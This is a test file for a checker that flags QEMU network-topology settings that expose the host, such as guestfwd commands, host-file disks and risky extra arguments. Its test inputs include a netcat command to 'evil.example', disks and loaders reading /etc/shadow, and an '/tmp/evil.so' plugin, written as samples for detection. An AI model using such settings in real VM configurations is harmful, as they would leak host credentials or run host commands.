import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadTopology, type Topology } from './index';
import { formatTrustItem, trustItems, usesStandardQemu } from './trust';

const EXAMPLES = join(import.meta.dirname, '../../assets/examples');

function load(text: string): Topology {
  const r = loadTopology(text);
  if (!r.ok) throw new Error(JSON.stringify(r.errors));
  return r.topology;
}

const vm = (extra: string) => load(`version: 1\nname: t\nnodes:\n  - { id: a, kind: vm, ${extra} }\n`);
const lines = (t: Topology) => trustItems(t).map(formatTrustItem);
const argsOf = (args: string[]) => trustItems(vm(`extraArgs: ${JSON.stringify(args)}`)).map((i) => [i.field, i.value]);

describe('trustItems', () => {
  it('finds nothing in the examples but an external bridge and the vhost-user / vDPA backends', () => {
    const found = Object.fromEntries(
      readdirSync(EXAMPLES)
        .filter((f) => f.endsWith('.qnet.yaml'))
        .map((f) => [f, lines(load(readFileSync(join(EXAMPLES, f), 'utf8')))]),
    );
    expect(Object.entries(found).filter(([, l]) => l.length > 0)).toEqual([
      ['03-bridge-helper.qnet.yaml', ['node "br", external: connects guests to the host\'s own bridge qnbr3']],
      [
        '08-vhost-user-vdpa.qnet.yaml',
        [
          'node "vswitch", socket: connects the guest to the host socket /tmp/qnet-vhost-user.sock',
          'node "vdpa0", vhostdev: gives the guest the host device /dev/vhost-vdpa-0',
        ],
      ],
    ]);
  });

  it('names a non-standard binary (a path, or another name), not the installed qemu-system-<arch>', () => {
    expect(lines(vm('binary: ./evil.sh'))).toEqual([
      'node "a", binary: runs the host program ./evil.sh instead of qemu-system-x86_64',
    ]);
    expect(trustItems(vm('binary: /usr/bin/qemu-system-x86_64'))).toHaveLength(1);
    expect(trustItems(vm('arch: aarch64, binary: qemu-system-x86_64'))).toHaveLength(1);
    expect(trustItems(vm('binary: qemu-system-x86_64'))).toEqual([]);
    expect(usesStandardQemu({ arch: 'riscv64', binary: undefined })).toBe(true);
  });

  it('names host files a guest boots from, with their document path', () => {
    const t = vm('boot: { type: disk, images: [{ path: /etc/shadow, format: raw, snapshot: false }] }');
    expect(trustItems(t)).toEqual([
      {
        node: 'a',
        field: 'boot.images[0].path',
        path: ['nodes', 0, 'boot', 'images', 0, 'path'],
        value: '/etc/shadow',
        what: 'lets the guest read and write the host file /etc/shadow as a disk',
      },
    ]);
    expect(lines(vm('boot: { type: kernel, kernel: /k, initrd: /i }'))).toHaveLength(2);
    expect(lines(vm('boot: { type: cdrom, path: /x.iso }'))).toHaveLength(1);
  });

  it('names guestfwd commands and host sockets, smb and tftp directories, a VDE directory', () => {
    const t = load(`version: 1
name: t
nodes:
  - id: n
    kind: nat
    smb: /home
    tftp: /srv/tftp
    guestfwd:
      - { server: 10.0.2.100, port: 80, target: 'cmd:nc evil.example 80' }
      - { server: 10.0.2.101, port: 80, target: 'tcp:127.0.0.1:5432' }
  - { id: v, kind: vde, sock: /var/run/sw }
`);
    expect(lines(t)).toEqual([
      'node "n", guestfwd[0].target: runs the host command "nc evil.example 80" for each guest connection',
      'node "n", guestfwd[1].target: connects guests to the host\'s tcp:127.0.0.1:5432',
      'node "n", smb: shares the host directory /home with the guests (runs smbd)',
      'node "n", tftp: serves the host directory /srv/tftp to the guests by TFTP',
      'node "v", sock: puts its switch in the host directory /var/run/sw',
    ]);
  });

  it('names a published port a bridge or a NAT node binds on a host address other than loopback, or below 1024', () => {
    const t = load(`version: 1
name: t
nodes:
  - id: br
    kind: bridge
    address: 10.0.0.254/24
    hostfwd:
      - { hostPort: 8080, guestAddr: 10.0.0.1, guestPort: 80 }
      - { hostAddr: 0.0.0.0, hostPort: 8081, guestAddr: 10.0.0.1, guestPort: 80 }
      - { proto: udp, hostAddr: 192.168.1.5, hostPort: 53, guestAddr: 10.0.0.2, guestPort: 53 }
      - { hostAddr: 127.0.0.2, hostPort: 22, guestAddr: 10.0.0.1, guestPort: 22 }
  - id: wan
    kind: nat
    hostfwd:
      - { hostAddr: 127.0.0.1, hostPort: 2222, guestPort: 22 }
      - { hostAddr: 0.0.0.0, hostPort: 2223, guestPort: 22 }
      - { hostAddr: 10.1.2.3, hostPort: 8443, guestAddr: 10.0.2.15, guestPort: 443 }
`);
    expect(lines(t)).toEqual([
      'node "br", hostfwd[1]: opens the host\'s TCP port 8081 on every host address (0.0.0.0) to 10.0.0.1:80 in the lab, where other machines can reach it',
      'node "br", hostfwd[2]: opens the host\'s privileged UDP port 53 on the host address 192.168.1.5 to 10.0.0.2:53 in the lab, where other machines can reach it',
      'node "br", hostfwd[3]: opens the host\'s privileged TCP port 22 on the host address 127.0.0.2 to 10.0.0.1:22 in the lab',
      'node "wan", hostfwd[1]: opens the host\'s TCP port 2223 on every host address (0.0.0.0) to port 22 of the guest in the lab, where other machines can reach it',
      'node "wan", hostfwd[2]: opens the host\'s TCP port 8443 on the host address 10.1.2.3 to 10.0.2.15:443 in the lab, where other machines can reach it',
    ]);
    expect(trustItems(t).map((i) => [i.path, i.value])).toEqual([
      [['nodes', 0, 'hostfwd', 1], 'tcp 0.0.0.0:8081'],
      [['nodes', 0, 'hostfwd', 2], 'udp 192.168.1.5:53'],
      [['nodes', 0, 'hostfwd', 3], 'tcp 127.0.0.2:22'],
      [['nodes', 1, 'hostfwd', 1], 'tcp 0.0.0.0:2223'],
      [['nodes', 1, 'hostfwd', 2], 'tcp 10.1.2.3:8443'],
    ]);
  });

  it("names a NAT node's verbatim hostfwd that is not on loopback (QEMU's empty address is every address) and any verbatim guestfwd", () => {
    const nat = (options: string) =>
      lines(load(`version: 1\nname: t\nnodes:\n  - { id: n, kind: nat, options: ${options} }\n`));
    expect(nat('{ hostfwd: "tcp:127.0.0.1:2222-:22" }')).toEqual([]);
    expect(
      nat('{ hostfwd: ["tcp::2222-:22", "udp:127.0.0.1:5353-:53", ":127.0.0.1:80-:80", "tcp:127.0.0.1:2223-:22"] }'),
    ).toEqual([
      'node "n", options.hostfwd[0]: publishes a guest port on the host as hostfwd=tcp::2222-:22 (only a loopback port from 1024 up needs no approval)',
      'node "n", options.hostfwd[2]: publishes a guest port on the host as hostfwd=:127.0.0.1:80-:80 (only a loopback port from 1024 up needs no approval)',
    ]);
    expect(nat('{ guestfwd: "tcp:10.0.2.100:80-cmd:touch x" }')).toEqual([
      'node "n", options.guestfwd: runs the host command "touch x" for each guest connection',
    ]);
  });

  it('names a host interface a bridge takes as its uplink', () => {
    const t = load(`version: 1
name: t
nodes:
  - { id: h, kind: host, interfaces: [{ name: eth0 }] }
  - { id: br, kind: bridge }
links:
  - { a: 'h:eth0', b: br }
`);
    expect(trustItems(t)).toMatchObject([{ node: 'h', field: 'links[0]', path: ['links', 0] }]);
  });

  it('lets harmless extra arguments through', () => {
    expect(
      argsOf([
        '-no-reboot',
        '-m',
        '1G',
        '-device',
        'virtio-rng-pci',
        '-serial',
        'none',
        '-rtc',
        'base=utc',
        '-global',
        'kvm-pit.lost_tick_policy=discard',
        '-object',
        'iothread,id=io0',
        '-append',
        '-kernel /looks/like/an/option',
        '-machine',
        'q35,smm=off',
      ]),
    ).toEqual([['extraArgs[14]', '-kernel /looks/like/an/option']]);
  });

  it('names extra arguments that run host code or reach host files, devices, sockets', () => {
    const cases: [string[], string][] = [
      [['-readconfig', '/tmp/x.cfg'], '-readconfig /tmp/x.cfg'],
      [['-drive', 'file=/etc/shadow,format=raw'], '-drive file=/etc/shadow,format=raw'],
      [['-kernel', '/boot/vmlinuz'], '-kernel /boot/vmlinuz'],
      [['-initrd', '/x'], '-initrd /x'],
      [['-bios', '/x'], '-bios /x'],
      [['-L', '/x'], '-L /x'],
      [['-plugin', '/tmp/evil.so'], '-plugin /tmp/evil.so'],
      [['-chardev', 'file,id=c,path=/etc/passwd'], '-chardev file,id=c,path=/etc/passwd'],
      [['-chardev', 'pipe,id=c,path=/tmp/p'], '-chardev pipe,id=c,path=/tmp/p'],
      [
        ['-object', 'memory-backend-file,id=m,mem-path=/dev/shm/x,size=1G'],
        '-object memory-backend-file,id=m,mem-path=/dev/shm/x,size=1G',
      ],
      [
        ['-object', '{"qom-type":"input-linux","id":"k","evdev":"/dev/input/event0"}'],
        '-object {"qom-type":"input-linux","id":"k","evdev":"/dev/input/event0"}',
      ],
      [['-device', 'loader,file=/etc/shadow,addr=0x1000'], '-device loader,file=/etc/shadow,addr=0x1000'],
      [['-device', 'vfio-pci,host=01:00.0'], '-device vfio-pci,host=01:00.0'],
      [['-device', 'virtio-blk-pci,romfile=/x'], '-device virtio-blk-pci,romfile=/x'],
      [['-global', 'virtio-net-pci.romfile=/x'], '-global virtio-net-pci.romfile=/x'],
      [['-machine', 'q35,dumpdtb=/etc/passwd'], '-machine q35,dumpdtb=/etc/passwd'],
      [['-incoming', 'exec:touch /tmp/x'], '-incoming exec:touch /tmp/x'],
      [['-pidfile', '/etc/x'], '-pidfile /etc/x'],
      [['-serial', 'tcp::4444,server=on'], '-serial tcp::4444,server=on'],
      [['-qmp', 'tcp:0.0.0.0:4444,server=on'], '-qmp tcp:0.0.0.0:4444,server=on'],
      [
        ['-virtfs', 'local,path=/,mount_tag=r,security_model=none'],
        '-virtfs local,path=/,mount_tag=r,security_model=none',
      ],
      [['-icount', 'shift=auto,rr=record,rrfile=/etc/x'], '-icount shift=auto,rr=record,rrfile=/etc/x'],
      [['-semihosting'], '-semihosting'],
      [['-frobnicate', 'x'], '-frobnicate x'],
      [['/etc/shadow'], '/etc/shadow'],
      [['-no-reboot', '/etc/shadow'], '/etc/shadow'],
      [['--kernel=/boot/x'], '--kernel=/boot/x'],
    ];
    for (const [args, shown] of cases) {
      const items = argsOf(args);
      expect(items, args.join(' ')).toHaveLength(1);
      expect(items[0]?.[1]).toBe(shown);
    }
    expect(lines(vm('extraArgs: [-plugin, /tmp/evil.so]'))).toEqual([
      'node "a", extraArgs[0]: passes "-plugin /tmp/evil.so" to QEMU, which runs host code (loads a shared library into QEMU)',
    ]);
  });
});

describe('trustItems of what an import keeps', () => {
  it('names netdev nodes, path-like verbatim options and NIC properties, and given link socket paths', () => {
    const t = load(`version: 1
name: t
nodes:
  - { id: a, kind: vm, nics: [{ id: e0, properties: { romfile: /srv/pxe.rom, bus: pci.0 } }, { id: e1 }] }
  - { id: b, kind: vm, nics: [{ id: e0 }] }
  - { id: p, kind: netdev, type: passt, options: { tcp-ports: "10001" } }
  - { id: n, kind: nat, options: { hostfwd: "unix:/tmp/vm-:23", tftp-server-name: x } }
  - { id: t, kind: tap, options: { sndbuf: 1600 } }
links:
  - { a: a:e1, b: b:e0, transport: stream, path: /tmp/qemu0 }
`);
    expect(trustItems(t).map((i) => [i.node, i.field, i.value])).toEqual([
      ['a', 'nics[0].properties.romfile', '/srv/pxe.rom'],
      ['p', 'type', 'passt'],
      ['n', 'options.hostfwd', 'unix:/tmp/vm-:23'],
      ['a', 'links[0].path', '/tmp/qemu0'],
    ]);
  });
});
